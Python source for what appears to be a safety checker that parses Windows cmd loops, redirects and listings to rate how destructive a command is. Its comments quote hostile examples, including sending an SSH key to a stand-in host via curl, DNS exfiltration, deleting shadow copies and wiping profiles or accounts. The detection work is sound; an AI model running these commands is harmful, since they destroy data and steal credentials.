def _empties_each(words: list[Word], target: Word, scope: Scope) -> bool:
    """(f19) `for /r %USERPROFILE% %f in (*) do type nul > "%f"`: a loop whose body prints
    nothing into each item empties every file of the set: judged as emptying the folder's
    contents (blocked for a home, the root, a system folder). True if a finding was added."""
    words = words[_lead_at(words) :] if words else words  # (`if 1==1 for …`, `call for …`)
    while len(words) > 2 and words[0].text.lower() in ("cmd", "cmd.exe", "%comspec%"):
        # `cmd /c for … do type nul > "%f"`: the child cmd's loop (wrapper sweep)
        k = 1
        while k < len(words) and words[k].text.startswith("/") and len(words[k].text) <= 6:
            k += 1
        words = words[k:]
    if not words or words[0].text.lower().lstrip("@") != "for" or "%" not in target.text:
        return False
    do = next((i for i, w in enumerate(words) if w.text.lower() == "do"), None)
    if do is None or do + 1 >= len(words):
        return False
    body = " ".join(w.text.lower() for w in words[do + 1 : do + 3])
    if body not in _PRINTS_NOTHING and words[do + 1].text.lower() not in _PRINTS_NOTHING:
        return False
    items = _for_body([*words[: do + 1], target], do)
    if len(items) != 1 or items[0].text == target.text:
        return False
    from aintern_ls.safety.files import emptied_whole

    probe = Cmd([Word("type", target.start, target.end), items[0]], "type", scope, NO_STDIN)
    if emptied_whole(probe, [items[0]], f"{body} > each file empties"):
        return True
    from aintern_ls.safety.paths import write_target
    from aintern_ls.safety.windows import windows_write_target

    each = Word(items[0].text, target.start, target.end)
    if (
        write_target(each.text.replace("\\", "/"), scope.cwds) is not None
        or windows_write_target(each.text) is not None
    ):
        _redirect(scope, ">", each)  # (a system or startup file: its own rule)
    else:
        scope.add(
            RiskLevel.DANGEROUS,
            "truncate",
            f"empties each file of {items[0].text}",
            target.start,
            target.end,
        )
    return True


def _loop_redirects(words: list[Word], redirects: list[tuple[str, Word]]) -> list[tuple[str, Word]]:
    """(n19w) `for %f in (C:\\…\\Logs\\*.evtx) do type nul > "%f"`: a redirect in a for
    body whose target holds the loop variable writes each item of the set (the set read as
    the body's words are, by `_for_body`)."""
    if not redirects or not words or words[0].text.lower().lstrip("@") != "for":
        return redirects
    do = next((i for i, w in enumerate(words) if w.text.lower() == "do"), -1)
    if do < 0:
        return redirects
    out: list[tuple[str, Word]] = []
    for op, target in redirects:
        if "%" in target.text and op != "<":
            items = _for_body([*words[: do + 1], target], do)
            if items and items != [target]:
                out.extend((op, t) for t in items[:4])
                continue
        out.append((op, target))
    return out


# What a redirect's target is, by (operator, target text): the finding it makes, or None.
_RedirectVerdict = tuple[RiskLevel, str, str] | None


def _redirect(
    scope: Scope,
    op: str,
    target: Word,
    seen: dict[tuple[str, str], _RedirectVerdict] | None = None,
) -> None:
    """The finding a redirect's target makes. `seen` (s20): the verdicts of the targets
    already classified in this command (same working directories), so `echo >a >a >a …`
    (3,300 redirects in 10,000 characters: 100 ms) classifies `a` once; each redirect
    still gets its own finding where it stands."""
    key = (op, target.text)
    if seen is not None and key in seen:
        verdict = seen[key]
    else:
        verdict = _redirect_verdict(scope, op, target.text)
        if seen is not None:
            seen[key] = verdict
    if verdict is not None:
        scope.add(verdict[0], verdict[1], verdict[2], target.start, target.end)


def _redirect_verdict(scope: Scope, op: str, text: str) -> _RedirectVerdict:
    low = text.lower()
    if op == "<" or low in ("nul", "con", "&1", "&2", "1", "2") or low.startswith("&"):
        return None
    if is_device(text):
        return (RiskLevel.BLOCKED, "disk-write", f"overwrites the raw disk {text}")
    from aintern_ls.safety.paths import write_target

    t = write_target(text.replace("\\", "/"), scope.cwds, append=op == ">>")
    if t is not None:
        verb = "appends to" if op == ">>" else "overwrites"
        return (t.level, t.rule, f"{verb} {t.what}")
    from aintern_ls.safety.windows import windows_write_target

    w = windows_write_target(text)
    if w is not None:
        return (w[0], w[1], f"writes {w[2]}")
    return (RiskLevel.MODERATE, "write", f"writes to {text}")


def _if_end(words: list[Word]) -> int:
    """Index of the command after `if [/i] [not] exist|defined|errorlevel X`, `if A==B`,
    `if A equ B` (words[0] is `if`)."""
    i = 1
    if i < len(words) and words[i].text.lower() == "/i":
        i += 1
    if i < len(words) and words[i].text.lower() == "not":
        i += 1
    if i < len(words) and words[i].text.lower() in ("exist", "defined", "errorlevel"):
        i += 2
    elif i + 2 < len(words) and words[i + 1].text in ("==", "equ", "neq", "lss", "gtr"):
        i += 3
    elif i < len(words) and "==" in words[i].text:
        i += 1
    return i


def _lead_at(words: list[Word]) -> int:
    """Index of the command word that runs, past `if` conditions (`if exist C:\\ for %i in
    (…) do …` is a `for`): the tokeniser and the loop and listing readers key on it."""
    i = 0
    while i < len(words):
        first = words[i].text.lower().lstrip("@")
        if first == "if":
            i += _if_end(words[i:])
        elif first == "call" and i + 1 < len(words) and not words[i + 1].text.startswith(":"):
            i += 1  # `call dir /b /s C:\\ > l.txt`: call runs the command itself
        elif first == "start":
            # `start /b for %i in (…) do …`: start hands the loop to a child cmd
            j = i + 1
            while j < len(words) and words[j].text.startswith("/"):
                j += 1
            if j < len(words) and words[j].text.lower() in ("for", "if"):
                i = j
            else:
                break
        else:
            break
    return i


def _body_at(words: list[Word]) -> int:
    """Index of the command a line runs past every control head: `if …`, `call`, and
    `for … do` (`for %Q in (1) do dir /b /s C:\\ > l.txt` writes a listing)."""
    i = _lead_at(words)
    while i < len(words) and words[i].text.lower().lstrip("@") == "for":
        do = next((j for j in range(i + 1, len(words)) if words[j].text.lower() == "do"), -1)
        if do < 0:
            break
        i = do + 1
        i += _lead_at(words[i:])
    return i


def _may_loop(text: str) -> bool:
    """(sb22) False only when no word the tokeniser makes of `text` can be `for`: cmd drops
    `"` and `^` (and `^` + newline) from a word, so the letters of a `for` word stand
    together in the text once those are taken out. Asked once a text, so that `_lead`, a
    walk over the words, is not asked at every segment and parenthesis of a text without a
    loop (`x (a&&a&&…` 10,000 characters long: 3,333 segments)."""
    return "for" in text.lower().replace("^", "").replace('"', "").replace("\n", "")


def _lead(words: list[Word]) -> str:
    i = _lead_at(words)
    return words[i].text.lower().lstrip("@") if i < len(words) else ""


def _echo_off_only(w: Word) -> bool:
    """A word that is only cmd's echo-off mark (`@`), which `_strip_control` drops."""
    return not w.dynamic and not w.text.lstrip("@")


def _strip_control(words: list[Word]) -> list[Word]:
    """Drop `@`, `if exist X`, `for %%i in (…) do` so the real command comes first."""
    while words:
        first = words[0].text.lower().lstrip("@")
        if not first:
            words = words[1:]
            continue
        if words[0].text.startswith("@"):
            w = words[0]
            words = [Word(w.text[1:], w.start + 1, w.end, w.dynamic, w.glob, w.origin), *words[1:]]
            continue
        if first in ("rem", "::") or first.startswith("::"):
            return []
        if first == "if":
            words = words[_if_end(words) :]
            continue
        if first == "for":
            idx = next((i for i, w in enumerate(words) if w.text.lower() == "do"), None)
            if idx is None:
                return []
            words = _for_body(words, idx)
            continue
        if first in ("else", "do", "call", "start") and len(words) > 1 and first != "start":
            words = words[1:]
            continue
        return words
    return words


_LOOKUP = re.compile(
    r"(?i)\A@?(nslookup|ping|ping6|tracert|pathping|resolve-dnsname|curl|wget|certutil)(\.exe)?\Z"
)


# (n18w) `reg query … /v NAME` in a `for /f` set, for the registry values that name a known
# folder (the Windows folder, Program Files, the profiles folder)
_REG_QUERY_SET = re.compile(
    r"""(?i)['`]\s*reg(?:\.exe)?\s+query\s+"?hklm\\software\\(?:wow6432node\\)?microsoft\\"""
    r"""windows(?: nt)?\\currentversion(?:\\profilelist)?"?\s+/v\s+"?(\w+)"?\s*['`]"""
)
_REG_FOLDERS = {
    "systemroot": "C:\\Windows",
    "pathname": "C:\\Windows",
    "programfilesdir": "C:\\Program Files",
    "commonfilesdir": "C:\\Program Files\\Common Files",
    "profilesdirectory": "C:\\Users",
}


def _for_literal_tokens(
    options: list[str], src: str, var: str | None, body: list[Word]
) -> list[Word] | None:
    """`for /f "tokens=1-3" %a in ("rd /s C:\\x") do %a %b /q %c`: a double-quoted set is
    a literal string, split into tokens by the options; `%a`, `%b`, `%c` are those tokens."""
    if var is None or "usebackq" in " ".join(options).lower():
        return None
    options = [o for o in options if o != var]  # (`"delims=" %a`: the loop variable ends it)
    m = re.fullmatch(r"(.*)", src, re.S)
    if m is None:
        return None
    opts = " ".join(o.strip('"') for o in options).lower()
    delims_m = re.search(r"delims=(.*?)(?=\s+(?:tokens|skip|eol|usebackq)=|\s*$)", opts)
    delims = delims_m.group(1) if delims_m is not None else " \t"
    parts = (
        [p for p in re.split("[" + re.escape(delims) + "]", m.group(1)) if p]
        if delims
        else [m.group(1)]
    )
    spec_m = re.search(r"tokens=([\d,*-]+)", opts)
    wanted: list[int] = []
    star = False
    for piece in (spec_m.group(1) if spec_m else "1").split(","):
        if piece.endswith("*"):
            star = True
            piece = piece[:-1]
        if "-" in piece:
            lo, _, hi = piece.partition("-")
            if lo.isdigit() and hi.isdigit():
                wanted.extend(range(int(lo), int(hi) + 1))
        elif piece.isdigit():
            wanted.append(int(piece))
    values = [parts[i - 1] if i - 1 < len(parts) else "" for i in wanted[:8]]
    if star:
        values.append(" ".join(parts[wanted[-1] if wanted else 0 :]))
    letter = var.lstrip("%")
    names = {("%" * (len(var) - 1)) + chr(ord(letter) + k): v for k, v in enumerate(values)}
    out: list[Word] = []
    for w in body:
        text = w.text
        for name, value in names.items():
            if "~" in text:
                text = _tilde_sub(_tilde_pattern(name), value.strip('"'), text)  # (n14w)
            text = re.sub(re.escape(name) + r"(?![A-Za-z])", value.replace("\\", "\\\\"), text)
        for piece in text.split() if text != w.text and " " in text else [text]:
            out.append(Word(piece, w.start, w.end, bool(_VAR.search(piece)), "*" in piece))
    return out


def _tilde_pattern(var: str) -> re.Pattern[str]:
    """`%~fI`, `%~dpI`, `%%~dpnxI`: the loop variable read through its modifiers."""
    return re.compile(re.escape(var[:-1]) + r"~([fdpnxsatz]*)" + re.escape(var[-1]), re.I)


def _tilde_sub(tilde: re.Pattern[str], item: str, text: str) -> str:
    # `%~dI%~pI` is `%~dpI` (the drive, then the path without it)
    text = re.sub(r"(?i)(%%?)~d([A-Za-z])%%?~p\2", lambda m: m.group(1) + "~dp" + m.group(2), text)
    return tilde.sub(lambda m: _tilde_value(item, m.group(1)), text)


def _tilde_value(item: str, mods: str) -> str:
    """What `%~<mods>I` expands to for the set item `item` (as text the path judge
    normalises): `~`/`~f` the item itself (full path), `~dp`/`~p` the folder it is in; a
    name or extension part (`~n`, `~x`) is only known at run time."""
    m = mods.lower()
    if m == "d":
        drive = re.match(r"[A-Za-z]:", item)
        home = re.match(
            r"(?i)%(?:userprofile|homedrive|systemdrive|public|appdata|localappdata)%", item
        )
        if drive is not None or home is not None:
            return drive.group(0) if drive is not None else "C:"  # (home's drive, as elsewhere)
    if any(c in m for c in "nxsatz") or m == "d":
        return "%~" + mods + "?"  # (a run-time value)
    if "p" in m:
        return item.rstrip("\\/") + "\\..\\"
    return item


def _set_items(texts: list[str]) -> list[str]:
    """(w21) The items of a `for` set, one per word the tokeniser made: a quoted item keeps
    its blanks (`("C:\\Program Files" C:\\x)` is two items, the first one folder), the
    set's parentheses are not part of an item, and `,`/`;` separate items as blanks do."""
    out: list[str] = []
    last = len(texts) - 1
    for i, t in enumerate(texts[:4096]):
        if i >= 64 and (len(out) >= 128 or not _may_be_worse(t)):
            # (w22, review 21 U6) past the first 64 words, only an item that may be worse
            # than a plain name is kept (a path, a variable, a security or backup service):
            # padding before `C:\Windows` no longer hides it, and a long set stays cheap
            continue
        if i == 0:
            t = t.lstrip()[1:] if t.lstrip().startswith("(") else t
        if i == last:
            t = t.rstrip()[:-1] if t.rstrip().endswith(")") else t
        if "," not in t and ";" not in t:
            if t.strip():
                out.append(t.strip())
            continue
        parts = [t] if " " in t.strip() else _SET_SEPARATORS.split(t)
        out.extend(p.strip() for p in parts if p.strip())
    if len(out) > 1:
        # (the body is judged with a few items, a one-target command with the first: the
        # items naming the worst folders, then security or backup services, first)
        from aintern_ls.safety.paths import classify_path
        from aintern_ls.safety.security import security_name

        where = frozenset([None])

        def worst_first(item: str) -> tuple[int, int]:
            bare = item.strip('"')
            service = security_name(bare) or bare.lower() in _BACKUP_SERVICES
            return (-classify_path(bare, where, True).level, 0 if service else 1)

        out.sort(key=worst_first)
    return out


def _may_be_worse(text: str) -> bool:
    """(w22) A `for` set word that may name more than a plain relative name: a path or a
    drive, a variable, a wildcard, or a security or backup service (a cheap test)."""
    if any(c in text for c in ":\\/%~*.!"):
        return True
    from aintern_ls.safety.security import security_name

    bare = text.strip('(),; "')
    return bare.lower() in _BACKUP_SERVICES or security_name(bare)


# (w21) backup services a loop may stop or disable (as `sc stop VSS` is rated)
_BACKUP_SERVICES = frozenset({"vss", "wbengine", "sdrsvc", "swprv"})


_SET_SEPARATORS = re.compile(r"[\s,;]+")


_LOOP_VAR = re.compile(r"%%?[^\s%\"=,;]")


def _for_body(words: list[Word], do: int) -> list[Word]:
    """The body of `for [/d|/r DIR] %%i in (SET) do BODY` with the loop variable replaced by
    the set (`for /d %i in (C:\\Users\\*) do rd /s /q %i` deletes every profile). Sets read
    from files or commands (`for /f`) stay unknown."""
    body = words[do + 1 :]
    head = [w.text for w in words[1:do]]
    low = [t.lower() for t in head]
    if "in" not in low:
        return body
    at = low.index("in")
    # (review 22 S1: cmd takes any one character as the loop variable, `%%#`, `%%1`, `%%@`,
    # `%%$` as well as a letter; the one just before `in`, not a `/r %1` root before it)
    var = next((t for t in reversed(head[:at]) if _LOOP_VAR.fullmatch(t)), None)
    if var is None:
        # (sb22) no loop variable: every path below returns the body as it is (the set's
        # items, listings and literal tokens only replace the variable), so the set is not
        # read; `for /f * in ('dir /b') do (` nested 333 deep read each set at 100 µs
        return body
    items = _set_items(head[at + 1 :])
    listing: tuple[str, bool, bool] | None = None
    if "/f" in low:
        # `for /f %i in ('echo C:\') do …`: an echo's output is its text (first token);
        # a `dir /b` listing is every entry of the folder it lists; other commands'
        # output and files stay unknown.
        src = " ".join(head[at + 1 :]).strip().strip("()").strip()
        set_words = words[1:do][at + 1 :]
        quoted = len(set_words) == 1 and set_words[0].end - set_words[0].start == len(src) + 2
        literal = _for_literal_tokens(head[:at], src, var, body) if quoted else None
        if literal is not None:
            return literal
        if var is not None and src[:1] in "'`":
            # (n13w) a set whose output is literal text: `'echo rd /s /q C:\Users'` (and
            # `cmd /c echo …`), `usebackq` with a `'…'` string: split by the options
            back = any("usebackq" in t for t in low[:at])
            said = re.fullmatch(
                r"(['`])\s*(?:cmd(?:\.exe)?\s+/[ck]\s+)?echo\s+([^'`&|<>]+?)\s*\1", src, re.I
            )
            text = (
                src[1:-1]
                if back and src[:1] == "'" and src[-1:] == "'"
                else (said.group(2) if said is not None and (src[:1] == "`") == back else None)
            )
            if text is None and (queried := _REG_QUERY_SET.fullmatch(src)) is not None:
                # (n18w) `('reg query "HKLM\…\CurrentVersion" /v SystemRoot')`: the value
                # line it prints (`    SystemRoot    REG_SZ    C:\Windows`)
                value = _REG_FOLDERS.get(queried.group(1).lower())
                if value is not None:
                    text = f"    {queried.group(1)}    REG_SZ    {value}"
            if text is not None:
                opts = [re.sub(r"(?i)usebackq", "", t) for t in head[:at]]
                literal = _for_literal_tokens(opts, text, var, body)
                if literal is not None:
                    return literal
        echoed = re.fullmatch(r"(['`])\s*echo\s+([^'`&|<>]+?)\s*\1", src, re.I)
        if echoed is None and src[1:7].lower().lstrip().startswith("where"):
            # (n13w) `for /f %p in ('where vssadmin') do %p delete shadows`: where prints
            # the program's own path; run, it is that program
            echoed = re.fullmatch(r"(['`])\s*where(?:\.exe)?\s+([\w.-]+)\s*\1", src, re.I)
        listing = _dir_listing(src)
        if listing is None and _EVERY_SERVICE.match(src):
            # (n19w) `for /f "skip=1" %s in ('wmic service get name') do sc delete %s`:
            # every service, the ones Windows needs to boot among them
            items = ["RpcSs"]
        elif listing is None and _EVERY_ACCOUNT.match(src):
            # (n20w, F14) `for /f "skip=4" %u in ('net user') do net user %u /delete`: every
            # local account, the built-in administrator among them
            items = ["Administrator"]
        elif listing is not None:
            items = [listing[0]]
        elif echoed is None or "tokens" in " ".join(low) or "delims" in " ".join(low):
            if var is not None and body and _LOOKUP.match(body[0].text):
                # `for /f %t in ('whoami') do nslookup %t.x.example`: a command's output
                # is put in the name looked up (DNS exfiltration); (n20w, F19) a file's
                # lines as well, `for /f %l in (%USERPROFILE%\.ssh\id_rsa) do curl
                # http://x.example/?%l` (a line as the whole address is only the address)
                v = var.lower()
                read = src[:1] not in "'`"  # (a file's lines, not a command's output)
                return [
                    Word(w.text, w.start, w.end, True, False, "command")
                    if v in w.text.lower() and not (read and w.text.strip('"').lower() == v)
                    else w
                    for w in body
                ]
            return body
        else:
            items = echoed.group(2).split()[:1]
    if var is None or not items:
        return body
    if "/r" in low:  # for /r DIR: every file under DIR
        r = low.index("/r")
        root = head[r + 1] if r + 1 < at and not head[r + 1].startswith("%") else "."
        items = [root.rstrip("\\") + "\\" + item for item in items]
    if "/l" in low:
        items = items[:1]
    out: list[Word] = []
    tilde = _tilde_pattern(var)
    for w in body:
        if "~" in w.text and tilde.search(w.text):
            # (n14w) `rd /s /q "%~fI"`, `"%~dpI"`: the item with its modifiers applied
            text = _tilde_sub(tilde, items[0].strip('"'), w.text)
            out.append(Word(text, w.start, w.end, bool(_VAR.search(text)), "*" in text))
            continue
        if var.lower() not in w.text.lower():
            out.append(w)
            continue
        pattern = re.compile(re.escape(var) + r"(?![A-Za-z])", re.I)
        for item in items[:4] if w.text.lower() == var.lower() else items[:1]:
            if listing is not None and not listing[1] and w.text.lower() != var.lower():
                item = item.rsplit("\\", 1)[-1]  # `rd /s /q C:\x\%i`: bare names
            text = pattern.sub(item.replace("\\", "\\\\"), w.text)
            dynamic = bool(_VAR.search(text))
            out.append(Word(text, w.start, w.end, dynamic, ("*" in text or "?" in text)))
    if (
        ("/r" in low or (listing is not None and (listing[1] or listing[2])))
        and out
        and out[0].text.lstrip("@").lower() in ("del", "erase")
        and not any(w.text.lower() == "/s" for w in out)
    ):
        # A `dir /b` listing names folders too, and `del FOLDER` empties the folder; a
        # `dir /s /b` listing names every file below: the loop is `del /s` of the set.
        # `for /r DIR %f in (*) do del "%f"` deletes in every folder under DIR: `del /s`.
        first = out[0]
        out.insert(1, Word("/s", first.end, first.end, False, False))
    return out


# (n19w) a `for /f` set listing every service's name (wmic, `sc query` with its
# SERVICE_NAME lines picked out): no name is left out
_EVERY_SERVICE = re.compile(
    r"(?i)\A['`]\s*(?:wmic(?:\.exe)?\s+service\s+get\s+name"
    r"|sc(?:\.exe)?\s+query(?:\s+(?:type=\s*service|state=\s*all))*"
    r"(?:\s*\^?\|\s*find(?:str)?(?:\.exe)?(?:\s+/i)?\s+\"?service_name:?\"?)?)\s*['`]\Z"
)
# (n20w) a `for /f` set listing every local account's name
_EVERY_ACCOUNT = re.compile(
    r"(?i)\A['`]\s*(?:net(?:\.exe)?\s+users?|wmic(?:\.exe)?\s+useraccount(?:\s+where\s+\S+)?"
    r"\s+get\s+name(?:\s*/\w+)?)\s*['`]\Z"
)
_DIR_LISTING = re.compile(r"\A['`]\s*dir((?:\s+[^'`&|<>\s]+)*)\s*['`]\Z", re.I)
# `'reg query KEY'` with no value switch (`/v`, `/ve`, `/f`): its output is KEY's subkeys
_REG_QUERY_LISTING = re.compile(
    r"\A['`]\s*reg(?:\.exe)?\s+query\s+(\"[^\"]+\"|[^\s'`\"&|<>/]+)(?:\s+/s)?\s*['`]\Z", re.I
)


_LIST_FILE = "\x00cmdlist:"  # a file a `dir /b`/`where /r` listing was written to


def _listing_files(
    words: list[Word], redirects: list[tuple[str, Word]], scope: Scope
) -> list[Word]:
    """`dir /b /s C:\\Users > l.txt` … `for /f %i in (l.txt) do del "%i"`: a listing written
    to a file and read back by `for /f` carries the listing's scope (safety-m7)."""
    if not words:
        return words
    k = _lead_at(words)
    if k:
        head, words = words[:k], words[k:]
        return [*head, *_listing_files(words, redirects, scope)] if words else head
    if not redirects and words[0].text.lower().lstrip("@") != "for":
        return words  # (no listing written, no `for /f` to read one: what the rest says)
    b = _body_at(words) if words[0].text.lower().lstrip("@") == "for" else 0
    first = words[b].text.lower().lstrip("@") if b < len(words) else ""
    texts = [w.text for w in words[b:]]
    low = [t.lower() for t in texts]
    lists = (first == "dir" and "/b" in low) or (first == "where" and "/r" in low)
    for op, target in redirects if lists else ():  # (s20: only a listing is remembered)
        if op not in (">", ">>"):
            continue
        key = _LIST_FILE + re.split(r"[\\/]", target.text.strip('"').lower())[-1]
        if first == "dir" and "/b" in low:
            scope.env[key] = "'" + " ".join(texts) + "'"
        elif first == "where" and "/r" in low:
            r = low.index("/r")
            rest_ = [t for t in texts[r + 2 :] if not t.startswith("/")]
            root = texts[r + 1].strip('"') if r + 1 < len(texts) else "."
            pat = rest_[0] if rest_ else "*"
            tail = "" if pat in ("*", "*.*") else "\\" + pat
            scope.env[key] = f"'dir /b /s {root.rstrip(chr(92))}{tail}'"
    low = [w.text.lower() for w in words]
    if words[0].text.lower().lstrip("@") != "for" or "/f" not in low:
        return words
    out = list(words)
    # (sb22: where the last `in` stands, so a head past it is skipped without copying the
    # rest of the line for each `for`: 333 nested heads copied 390,000 words)
    last_in = len(low) - 1 - low[::-1].index("in") if "in" in low else -1
    # Every `for /f` head of the line (`for %Q in (1) do for /f … in (l.txt) do …`).
    for p, t in enumerate(low):
        if t.lstrip("@") != "for" or p > last_in:
            continue
        at = low.index("in", p)
        if "/f" not in low[p:at] or at >= len(words) - 1:
            continue
        w = words[at + 1]
        inner = re.split(r"[\\/]", w.text.strip("()").strip('"').lower())[-1]
        if (known := scope.env.get(_LIST_FILE + inner)) is not None:
            out[at + 1] = Word(known, w.start, w.end)
        elif (
            at + 2 < len(words)
            and w.text.lower().strip("(").strip("'`\"") in ("type", "more", "type.exe")
            and w.text.lstrip("(")[:1] in ("'", "`")
        ):
            # (f19) `for /f %f in ('type l.txt') do del "%f"`: the file printed is the set
            nxt = words[at + 2]
            inner = re.split(r"[\\/]", nxt.text.rstrip(")").strip("'`\"").lower())[-1]
            if (
                nxt.text.rstrip(")")[-1:] in ("'", "`")
                and (known := scope.env.get(_LIST_FILE + inner)) is not None
            ):
                out[at + 1 : at + 3] = [Word(known, w.start, nxt.end)]
    return out


def _dir_listing(src: str) -> tuple[str, bool, bool] | None:
    """`'dir /b [/s] [/a…] [PATH]'` as the set of a `for /f`: (the glob of what it lists,
    whether the listing is recursive, whether it names folders); None for anything else.
    Bare names (`/b` without `/s`) are printed relative to the folder listed, so a loop over
    them acts on every entry of it."""
    m = _DIR_LISTING.match(src.strip())
    if m is None:
        reg = _REG_QUERY_LISTING.match(src.strip())
        if reg is None:
            return None
        # `for /f %k in ('reg query HKLM\SOFTWARE') do reg delete %k /f`: the listing is
        # every subkey of the key, printed as full key paths (safety-n10w)
        return reg.group(1).strip('"').rstrip("\\") + "\\*", True, True
    args = [a.strip('"') for a in m.group(1).split()]
    flags = [a.lower() for a in args if a.startswith("/")]
    if "/b" not in flags:
        return None
    paths = [a for a in args if not a.startswith("/")]
    recursive = "/s" in flags
    attrs = "".join(f[2:] for f in flags if f.startswith("/a"))
    folders = "-d" not in attrs
    base = paths[0] if paths else "."
    if any(c in base for c in "*?") and base.rsplit("\\", 1)[-1] not in ("*", "*.*"):
        folders = False  # `dir /b *.log`: a named subset
    elif not any(c in base for c in "*?"):
        base = "*" if base in (".", ".\\", "") else base.rstrip("\\") + "\\*"
    return base, recursive, folders


# Words after which `(` opens a block (`if exist x (…)`, `else (…)`, `do (…)`).
_BLOCK_HEADS = frozenset({"if", "else", "do", "for"})


def _inside_command(words: list[Word]) -> bool:
    """(n14w) A `(` after an `if` condition's command word, or after `else X`, is text
    (`if exist C:\\ echo CreateObject("x").Run …`); only one where the command would start
    opens a block."""
    head = words[0].text.lower().lstrip("@")
    if head == "if":
        return len(words) > _if_end(words)
    return head == "else" and len(words) > 1


# Characters `_tokenise` treats specially; a run of anything else is part of the word.
_PLAIN_RUN = re.compile(r'[^"%^ \t\r,;=()&|\n<>]+')
# Every character a branch of `_tokenise` but the last (a plain run) tests for.
_TOKEN_SPECIAL = frozenset('"%!^ \t\r,;=()&|\n<>')


def _tokenise(text: str) -> tuple[list[tuple[list[Word], bool, list[tuple[str, Word]]]], bool]:
    segments: list[tuple[list[Word], bool, list[tuple[str, Word]]]] = []
    words: list[Word] = []
    redirects: list[tuple[str, Word]] = []
    piped = False
    buf: list[str] = []
    start = -1
    quote = False
    pending_redirect = ""
    depth = 0  # open `(` blocks
    i, n = 0, len(text)
    loops = _may_loop(text)  # (sb22: whether a `for` can lead a segment's words)

    def flush_word(end: int) -> None:
        nonlocal buf, start, pending_redirect
        if start < 0:
            return
        raw = "".join(buf)
        word = _word(raw, start, end)
        if pending_redirect:
            redirects.append((pending_redirect, word))
            pending_redirect = ""
        else:
            words.append(word)
        buf, start = [], -1

    def flush_segment(next_piped: bool) -> None:
        nonlocal words, redirects, piped
        if words or redirects:
            segments.append((words, piped, redirects))
        words, redirects = [], []
        piped = next_piped

    while i < n:
        c = text[i]
        if c not in _TOKEN_SPECIAL and not quote:
            # (s20) an ordinary character: none of the branches below but the last applies
            if start < 0:
                start = i
            run = _PLAIN_RUN.match(text, i)
            assert run is not None  # (`c` is none of the characters `_PLAIN_RUN` stops at)
            buf.append(run.group(0))
            i = run.end()
            continue
        if quote:
            # Everything up to the closing quote (or the end) is the word's, as it stands.
            close = text.find('"', i)
            stop = n if close < 0 else close + 1
            buf.append(text[i:stop])
            quote = close < 0
            i = stop
            continue
        if c in "%!" and (var := _WHOLE_VAR.match(text, i)) is not None:
            # `%x:~0,2%`: cmd expands the variable before it splits words at `,` or `=`;
            # `!x:~0,8!` (delayed) is one reference too (n13w: a program name built from it)
            if start < 0:
                start = i
            buf.append(var.group(0))
            i = var.end()
            continue
        if c == "^" and i + 1 < n:
            if start < 0:
                start = i
            if text[i + 1] != "\n":
                buf.append(text[i + 1])
            i += 2
            continue
        if c == '"':
            if start < 0:
                start = i
            buf.append(c)
            quote = True
            i += 1
            continue
        if c in " \t\r,;=" and not (c in ",;=" and start >= 0 and c == "="):
            if start >= 0:  # (s20: a call only when a word is open)
                flush_word(i)
            i += 1
            continue
        if c in "()" and words and loops and _lead(words) == "for":
            # `for %i in (set) do …`: the set's parentheses are not a block.
            if start >= 0:  # (s20: a call only when a word is open)
                flush_word(i)
            i += 1
            continue
        if (
            c == "("
            and words
            and (words[0].text.lower().lstrip("@") not in _BLOCK_HEADS or _inside_command(words))
        ):
            # `echo (x)`, `echo for %a in (x) do …`: in an argument a parenthesis is text.
            if start < 0:
                start = i
            buf.append(c)
            i += 1
            continue
        if c == ")" and depth <= 0:
            if start < 0:
                start = i
            buf.append(c)
            i += 1
            continue
        if c in "()":
            depth += 1 if c == "(" else -1
        if c in "&|\n()":
            if start >= 0:  # (s20: a call only when a word is open)
                flush_word(i)
            pipe = c == "|" and text[i : i + 2] != "||"
            flush_segment(pipe)
            i += 2 if text[i : i + 2] in ("&&", "||") else 1
            continue
        if c in "<>":
            if start >= 0:  # (s20: a call only when a word is open)
                flush_word(i)
            op = ">>" if text[i : i + 2] == ">>" else c
            if words and words[-1].text.isdigit() and words[-1].end == i:
                words.pop()
            pending_redirect = op
            i += len(op)
            if i < n and text[i] == "&":
                j = i + 1
                while j < n and text[j].isdigit():
                    j += 1
                pending_redirect = ""
                i = j
            continue
        if start < 0:
            start = i
        # A run of ordinary characters is taken whole (one step, not one per character).
        run = _PLAIN_RUN.match(text, i)
        if run is not None:
            buf.append(run.group(0))
            i = run.end()
        else:
            buf.append(c)
            i += 1
    flush_word(n)
    flush_segment(False)
    return segments, quote


def _word(raw: str, start: int, end: int) -> Word:
    text = raw.replace('"', "")
    dynamic = False
    if "%" in text or "!" in text:
        low = text.lower()
        for var, value in _VARS.items():
            if var in low:
                idx = low.index(var)
                text = text[:idx] + value + text[idx + len(var) :]
                low = text.lower()
        dynamic = bool(_VAR.search(text))
    return Word(text, start, end, dynamic, ("*" in text or "?" in text))
